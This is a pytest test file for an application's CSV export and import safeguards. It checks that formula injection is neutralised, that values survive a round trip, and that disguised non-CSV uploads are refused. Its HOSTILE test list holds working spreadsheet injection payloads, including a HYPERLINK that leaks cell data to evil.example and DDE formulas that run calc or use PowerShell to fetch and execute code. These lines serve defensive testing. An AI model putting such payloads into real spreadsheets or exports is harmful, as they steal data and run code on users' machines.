"""Issue 8, item 6 — CSV: every export neutralises formula injection, nothing is lost on
re-import, and files that are not CSV are refused before parsing.

The exports: Leads > Export (services.leads.export_leads_csv), an import's "Download these
entries" (the invalid rows) and the failed/invalid rows attached to the import result email
(csv_import._rows_csv), and the sample file (sample_csv). Each writes every cell, headers too,
through services.validation.csv_safe.

The round-trip rule (validation.csv_safe / csv_unescape): an apostrophe goes before a cell
that starts with = + - @ tab or CR, or with an apostrophe; our imports take that one apostrophe
off again. So for every text v: the exported cell never starts with a formula character, and
csv_unescape(csv_safe(v)) == v — also through a real file read by the import's own reader.

Files refused before parsing, with what to do, saving nothing: too big, UTF-16 with or without
BOM, binary data, a workbook/zip, a picture, a PDF or gzip named .csv. (The basic cases are
in tests/services/test_lead_import.py and test_invitation_import.py; these add the rest.)
"""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import select

from models.leads import Lead
from models.recruitment import ImportRow, ImportRun
from services import csv_import
from services.errors import InvalidInput
from services.invitation_import import INVITATIONS
from services.lead_import import LEADS
from services.leads import EXPORT_COLUMNS, export_leads_csv
from services.validation import FORMULA_STARTS, csv_safe, csv_unescape
from tests.import_helpers import all_rows, count, upload

RELIABILITY_ITEM = "6. CSV"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+2", "+1 555 0100", "-2+3", "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0", "\r=1", "'=already quoted", "'", "''", "'+x", "==", "=", "-", "+", "@",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")", " =1",
    "Ok plain text", "O'Brien", "'leading apostrophe", "=\u00a0x", "\uff1d1+1", "",
]

# Text a CSV import accepts as it is: no control character besides tab, CR and LF (a file with
# them is refused as binary), and NFC (the reader normalises to it).
CELL_TEXT = st.text(st.characters(blacklist_categories=("Cs",),
                                  blacklist_characters="".join(chr(c) for c in range(32) if c not in (9, 10, 13))
                                  + "\x7f" + "".join(chr(c) for c in range(0x80, 0xa0))),
                    max_size=40).map(lambda s: unicodedata.normalize("NFC", s))


def _formula_like(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


# ---------------------------------------------------------------- the rule, as a property


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=60))
def test_csv_safe_never_starts_a_formula_and_csv_unescape_restores_any_text(value):
    cell = csv_safe(value)
    assert not _formula_like(cell)
    assert csv_unescape(cell) == value


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(CELL_TEXT, min_size=3, max_size=3), min_size=1, max_size=5))
def test_an_exported_file_read_back_by_the_import_reader_gives_every_value_back(rows, figures):
    """Written as the exports write (csv.writer over csv_safe), read by the import's own decoder
    and reader (pandas, or the csv module for ragged rows), each cell unescaped: the same text."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["a", "b", "c"])
    for row in rows:
        writer.writerow([csv_safe(v) for v in row])
    content = ("\ufeff" + out.getvalue()).encode("utf-8")  # as the download hands it over
    text = csv_import._decode("export.csv", content)
    records = csv_import._read_rows(text, csv_import._sniff_separator(text, {"a", "b", "c"}))
    back = [[csv_unescape(str(c)) for c in r] for r in records[1:]]
    assert not any(_formula_like(str(c)) for r in records for c in r)
    # The csv module writes CR inside a quoted cell as it is; a reader sees CRLF, CR or LF as one
    # line end only outside quotes, so inside them every character survives.
    assert back == rows
    figures.add("inputs tried", sum(len(r) for r in rows))
    figures.add("values lost on re-import", sum(a != b for r, s in zip(back, rows, strict=True)
                                                 for a, b in zip(r, s, strict=True)))


# ---------------------------------------------------------------- the real exports


@pytest.fixture
def admin(db, p):
    return p.actor(db, p.admin)


def test_the_leads_export_neutralises_every_hostile_cell_and_loses_nothing(db, p, admin, figures):
    for n, value in enumerate(HOSTILE):
        db.add(Lead(first_name=value[:100], last_name=value[:100], company=value[:200], phone=value[:40],
                    country=value[:80], source_campaign=value[:200], email=f"x{n}@acme.example",
                    partner_account_id=p.northwind.id, status="New"))
    db.commit()

    text, n_rows = export_leads_csv(session=db, actor=admin)

    records = list(csv.reader(io.StringIO(text, newline="")))
    assert records[0] == EXPORT_COLUMNS and n_rows == len(HOSTILE)
    assert not [c for r in records for c in r if _formula_like(c)]
    columns = {name: i for i, name in enumerate(EXPORT_COLUMNS)}
    exported = {csv_unescape(r[columns["email"]]): r for r in records[1:]}
    lost = 0
    for lead in db.exec(select(Lead)).all():
        row = exported[lead.email]
        for field in ("first_name", "last_name", "company", "phone", "country", "source_campaign"):
            lost += csv_unescape(row[columns[field]]) != getattr(lead, field)
    assert lost == 0
    figures.add("inputs tried", len(HOSTILE) * 6)
    figures.add("values lost on re-import", lost)


LEAD_HEADER = "Email,Company,First Name,Last Name,Phone,Notes,Source Campaign"


def _lead_file(values: list[str]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(LEAD_HEADER.split(","))
    for n, v in enumerate(values):
        # An invalid email keeps every row in "Download these entries".
        writer.writerow([f"not-an-email-{n}", v, v, v, v[:40], v, v])
    return out.getvalue().encode()


def _data(rows: list[dict]) -> list[tuple]:
    return [tuple(sorted((k, v) for k, v in r.items() if k not in ("row", "id", "row_number", "status", "reason")))
            for r in rows]


def test_download_these_entries_uploaded_again_gives_the_same_rows(db, admin, figures):
    """The loop the admin runs: upload, Download these entries, correct, upload again. Without
    corrections the second upload reads every value exactly as the first did."""
    values = [v for v in HOSTILE if v.strip()] + ["plain", "=1", "+44 20 7946 0000"]
    first = upload(LEADS, db, admin, _lead_file(values), "leads.csv")
    downloaded = LEADS.bad_rows_csv(session=db, actor=admin, run_id=first)
    records = list(csv.reader(io.StringIO(downloaded, newline="")))
    assert not [c for r in records for c in r if _formula_like(c)]

    second = upload(LEADS, db, admin, ("\ufeff" + downloaded).encode(), "leads-errors.csv")

    one, two = all_rows(LEADS, db, admin, first), all_rows(LEADS, db, admin, second)
    assert len(one) == len(two) == len(values)
    assert _data(one) == _data(two)
    figures.add("inputs tried", len(values) * 6)
    figures.add("rows lost", len(one) - len(two))


def test_the_import_result_attachment_and_the_sample_are_formula_safe(db, admin):
    run_id = upload(INVITATIONS, db, admin, (
        b"partnerName,contactFirstName,contactLastName,contactEmail\r\n"
        b"=evil(),+Pat,-Jones,@bad\r\n"), "invitations.csv")
    attachment, _ = INVITATIONS._rows_csv(db, run_id, ("invalid", "failed"), with_row=True)
    sample = INVITATIONS.sample_csv(session=db, actor=admin) + LEADS.sample_csv(session=db, actor=admin)
    for text in (attachment, sample):
        cells = [c for r in csv.reader(io.StringIO(text, newline="")) for c in r]
        assert cells and not [c for c in cells if _formula_like(c)]
    assert "'=evil()" in attachment


# ---------------------------------------------------------------- uploads refused before parsing


def _xlsx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    return buf.getvalue()


TEXT = LEAD_HEADER + "\r\n" + "pat@acme.example,Acme,Pat,Jones,,,\r\n" * 20
REFUSED = [
    ("oversized", (TEXT * (csv_import.MAX_BYTES // len(TEXT) + 1)).encode(), "the limit is 10 MB"),
    ("utf16-le-no-bom", TEXT.encode("utf-16-le"), "UTF-16"),
    ("utf16-be-no-bom", TEXT.encode("utf-16-be"), "UTF-16"),
    ("utf16-bom", TEXT.encode("utf-16"), "UTF-16"),
    ("xlsx-renamed", _xlsx(), "Excel workbook"),
    ("xls-renamed", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "Excel workbook"),
    ("png-renamed", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "not a text file"),
    ("pdf-renamed", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n" + bytes(range(256)) * 4, "not a text file"),
    ("gzip-renamed", b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4, "not a text file"),
    ("binary-garbage", bytes((i * 7919) % 256 for i in range(20000)), "not a text file"),
    ("nul-in-text", TEXT.encode().replace(b"Acme", b"Ac\x00me", 1), "not a text file"),
    ("shift-jis", (LEAD_HEADER + "\r\nkenji@acme.example,株式会社テスト,健二,山田,,,\r\n").encode("shift_jis"),
     "not saved as UTF-8"),
]


@pytest.mark.parametrize("importer", [LEADS, INVITATIONS], ids=["leads", "invitations"])
@pytest.mark.parametrize("name, content, message", REFUSED, ids=[r[0] for r in REFUSED])
def test_a_wrong_upload_is_refused_before_parsing_and_nothing_is_saved(db, admin, importer, name, content,
                                                                       message, monkeypatch, figures):
    def never_parse(*_a, **_k):
        raise AssertionError("the file was parsed")

    monkeypatch.setattr(csv_import, "_read_rows", never_parse)
    with pytest.raises(InvalidInput) as exc:
        upload(importer, db, admin, content, "upload.csv")
    assert message in str(exc.value)
    assert count(db, ImportRun) == 0 and count(db, ImportRow) == 0
    figures.add("bad uploads refused", 1)
